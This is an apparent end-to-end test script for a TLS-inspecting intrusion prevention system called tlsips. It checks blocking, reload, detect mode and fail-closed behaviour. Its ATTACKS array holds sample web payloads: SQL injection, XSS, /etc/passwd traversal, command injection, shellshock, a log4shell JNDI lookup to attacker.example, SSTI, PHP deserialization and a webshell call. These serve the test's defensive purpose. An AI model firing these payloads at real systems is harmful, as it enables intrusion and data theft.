#!/usr/bin/env bash
# `tlsips run` inline on a real packet path: nginx (RSA key, TLS 1.2) in the
# server namespace, its port queued (both directions) to tlsips, curl in the
# client namespace.
#   - benign requests over HTTPS pass byte for byte (GET, 200 kB, POST);
#   - one attack per class over HTTPS gets no answer, nginx never logs it,
#     and an alert with "action":"blocked" is written;
#   - a client choosing ECDHE (undecryptable with the server key) is cut
#     with a tls event: reason unsupported_suite, verdict blocked;
#   - SIGHUP with a new rule file blocks a request that passed before, while
#     a keep-alive connection opened before the reload keeps working; a
#     broken file on SIGHUP keeps the running policy and says why;
#   - SIGTERM: exit 0 with a closing stats event; periodic stats meanwhile;
#   - detect mode: the ECDHE session and an attack pass, with events;
#   - tlsips killed: fail-closed queue stops traffic, --queue-bypass lets it flow.
# Skipped (exit 77) where namespaces or NFQUEUE are not available.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/../lib_netns.sh"
netns_require
NETNS_IPV6=0
e2e_init "$@"
e2e_need curl nginx jq openssl
. "$E2E_CASE_DIR/../lib_run.sh"
netns_setup

PORT=8443
U="https://e2e.test:$PORT"
R=(--resolve "e2e.test:$PORT:$SRV_IP4")
RSA=(--tlsv1.2 --tls-max 1.2 --ciphers AES128-GCM-SHA256)
run_nginx "$PORT"
printf '# local rules (replaced on reload)\n' >local.rules
run_policy cfg.yaml "$PORT" prevent "[builtin, $WORK/local.rules]"
netns_queue_port "$PORT" "$RUN_Q"
run_start ips cfg.yaml

e2e_log "--- benign traffic"
passes idx ngx/html/index.html "GET index over TLS 1.2 (RSA)" "${R[@]}" "${RSA[@]}" "$U/index.html"
passes data ngx/html/data.txt "GET 400 kB over TLS 1.2 (RSA)" "${R[@]}" "${RSA[@]}" "$U/data.txt"
printf 'form received\n' >form.exp
passes form form.exp "POST a form" "${R[@]}" "${RSA[@]}" -d 'name=O%27Brien&comment=fine' "$U/form"
passes reload_before ngx/html/index.html "GET /index.html?r=reload-target before the reload" \
    "${R[@]}" "${RSA[@]}" "$U/index.html?r=reload-target"

e2e_log "--- attacks, one per class"
# NAME|PATH|CURL ARGS (bash words)
ATTACKS=(
    "sqli|/items?id=1%20UNION%20SELECT%20username,password%20FROM%20users--|"
    "sqli_body|/form|-d \"user=admin' OR '1'='1&pass=x\""
    "xss|/search?q=%3Cscript%3Ealert(1)%3C/script%3E|"
    "traversal|/static/../../../../etc/passwd|--path-as-is"
    "cmdi|/ping?host=127.0.0.1;cat%20/etc/passwd|"
    "shellshock|/cgi-bin/status|-A '() { :;}; /bin/bash -c \"id\"'"
    "log4shell|/app|-H 'X-Api-Version: \${jndi:ldap://attacker.example/a}'"
    "ssti|/greet?name=%7B%7B7*7%7D%7D|"
    "php_deser|/cart|-b 'cart=O:8:\"stdClass\":1:{s:4:\"item\";s:3:\"abc\";}'"
    "webshell|/uploads/shell.php?cmd=id|"
)
for a in "${ATTACKS[@]}"; do
    IFS='|' read -r name path args <<<"$a"
    eval "extra=($args)"
    sep='?'
    [[ $path == *\?* ]] && sep='&'
    refused "atk_$name" "attack $name over HTTPS" "${R[@]}" "${RSA[@]}" "${extra[@]}" "$U$path${sep}tcase=$name"
done
passes idx_after ngx/html/index.html "GET after the attacks (no collateral)" "${R[@]}" "${RSA[@]}" "$U/index.html"

e2e_log "--- ECDHE against the RSA key entry"
refused ecdhe "ECDHE session (undecryptable) cut" "${R[@]}" --tlsv1.2 --tls-max 1.2 \
    --ciphers ECDHE-RSA-AES128-GCM-SHA256 "$U/index.html?tcase=ecdhe"

e2e_log "--- reload: a new rule, a keep-alive connection across it"
# A keep-alive connection made before the reload: openssl s_client fed from a fifo.
mkfifo ka.in
exec {KA}<>ka.in
bg_start -i ka.in ka ip netns exec "$NETNS_CLI" openssl s_client -connect "$SRV_IP4:$PORT" -servername e2e.test \
    -tls1_2 -cipher AES128-GCM-SHA256 -quiet -ign_eof
printf 'GET /index.html HTTP/1.1\r\nHost: e2e.test\r\n\r\n' >&"$KA"
wait_grep ka.out '^served line 2000$' 1 10 || fail "keep-alive connection: no first answer"
cat >local.rules <<'RULES'
drop http any any -> any any (msg:"local: reload target"; flow:to_server,established; http.uri; content:"reload-target"; classtype:web-application-attack; sid:9900001; rev:1;)
RULES
kill -HUP "${E2E_PID_OF[ips]}"
wait_grep ips.err '^tlsips: reloaded ' 1 20 || fail "no 'reloaded' line after SIGHUP"
sleep 0.5 # workers take the new policy between packets (at most 100 ms idle)
printf 'GET /index.html?second HTTP/1.1\r\nHost: e2e.test\r\n\r\n' >&"$KA"
if wait_grep ka.out '^served line 2000$' 2 10; then
    ok "the keep-alive connection opened before the reload still works after it"
else
    fail "the keep-alive connection did not survive the reload"
fi
refused reload_after "GET ?r=reload-target after the reload (new rule)" "${R[@]}" "${RSA[@]}" "$U/index.html?r=reload-target"

e2e_log "--- reload with a broken file"
cp cfg.yaml cfg.good
printf 'mode: [prevent\n  oops: }\n' >cfg.yaml
kill -HUP "${E2E_PID_OF[ips]}"
wait_grep ips.err 'reload failed' 1 20 || fail "no 'reload failed' line for a broken file"
check_grep ips.err 'cfg.yaml:[0-9]+' "the broken file's problem is named with file:line"
refused reload_broken "the rule still blocks after a broken reload" "${R[@]}" "${RSA[@]}" "$U/index.html?r=reload-target&b=1"
passes idx_broken ngx/html/index.html "benign traffic still passes after a broken reload" "${R[@]}" "${RSA[@]}" "$U/index.html"
cp cfg.good cfg.yaml
sleep 2.5 # one periodic stats event at least
exec {KA}>&-
bg_stop ka
run_stop ips

e2e_log "--- events"
jq -e . ev.json >/dev/null || fail "events are not valid JSON lines"
for a in "${ATTACKS[@]}"; do
    IFS='|' read -r name _ <<<"$a"
    check_eq blocked "$(jq -r --arg n "tcase=$name" 'select(.event_type=="alert" and (.http.url // "" | contains($n))) | .alert.action' ev.json | sort -u | tr '\n' ' ' | sed 's/ $//')" "alert for $name, action blocked"
    check_no_grep ngx/access.log "tcase=$name" "nginx never saw the $name request"
done
check_eq 0 "$(jq -r 'select(.event_type=="alert" and (.http.url // "" | test("tcase|reload-target") | not))' ev.json | grep -c '"flow_id"' || true)" "no alert on benign requests"
check_eq blocked "$(jq -r 'select(.event_type=="tls" and .tls.inspection.reason=="unsupported_suite") | .tls.inspection.verdict' ev.json | sort -u | tr '\n' ' ' | sed 's/ $//')" "ECDHE session: tls event, unsupported_suite, blocked"
check_no_grep ngx/access.log 'tcase=ecdhe' "nginx never answered the ECDHE session's request"
check_eq 9900001 "$(jq -r 'select(.event_type=="alert" and .alert.action=="blocked" and (.http.url | contains("reload-target"))) | .alert.signature_id' ev.json | sort -u | tr '\n' ' ' | sed 's/ $//')" "the reloaded rule blocked"
check_grep ngx/access.log 'r=reload-target HTTP' "before the reload the request passed"
check_no_grep ngx/access.log 'b=1' "after the broken reload it was still blocked"
n=$(jq -r 'select(.event_type=="stats")' ev.json | grep -c '"event_type"' || true)
[ "$n" -ge 2 ] && ok "stats events: $n (periodic and closing)" || fail "stats events: only $n"

e2e_log "--- detect mode"
: >ev.json
run_policy cfg-detect.yaml "$PORT" detect "[builtin]"
run_start ipsd cfg-detect.yaml
printf 'served line 1\n' >/dev/null
get ecdhe_d 15 "${R[@]}" --tlsv1.2 --tls-max 1.2 --ciphers ECDHE-RSA-AES128-GCM-SHA256 "$U/index.html?tcase=ecdhe_detect"
[ "$CURL_RC" -eq 0 ] && check_same_bytes ngx/html/index.html got.ecdhe_d "detect: ECDHE session passes" ||
    fail "detect: ECDHE session failed: curl $CURL_RC"
get atk_d 15 "${R[@]}" "${RSA[@]}" "$U/items?id=1%20UNION%20SELECT%20a,b%20FROM%20users--&tcase=sqli_detect"
check_eq 0 "$CURL_RC" "detect: the attack passes"
run_stop ipsd
check_eq would_block "$(jq -r 'select(.event_type=="tls" and .tls.inspection.reason=="unsupported_suite") | .tls.inspection.verdict' ev.json | sort -u | tr '\n' ' ' | sed 's/ $//')" "detect: ECDHE tls event says would_block"
check_eq allowed "$(jq -r 'select(.event_type=="alert" and (.http.url | contains("sqli_detect"))) | .alert.action' ev.json | sort -u | tr '\n' ' ' | sed 's/ $//')" "detect: alert with action allowed"
check_grep ngx/access.log 'tcase=sqli_detect' "detect: nginx got the attack"

e2e_log "--- tlsips killed: fail-closed, then bypass"
run_start ipsk cfg.yaml
passes idx_k ngx/html/index.html "GET with tlsips running" "${R[@]}" "${RSA[@]}" "$U/index.html"
kill -KILL "${E2E_PID_OF[ipsk]}"
wait "${E2E_PID_OF[ipsk]}" 2>/dev/null || true
unset 'E2E_PID_OF[ipsk]'
get closed 3 "${R[@]}" "${RSA[@]}" "$U/index.html"
check_eq 28 "$CURL_RC" "fail-closed: with tlsips killed, traffic stops (curl timed out)"
netns_unqueue
netns_queue_port "$PORT" "$RUN_Q" bypass
passes bypass ngx/html/index.html "fail-open (--queue-bypass): with tlsips killed, traffic flows" "${R[@]}" "${RSA[@]}" "$U/index.html"
e2e_finish
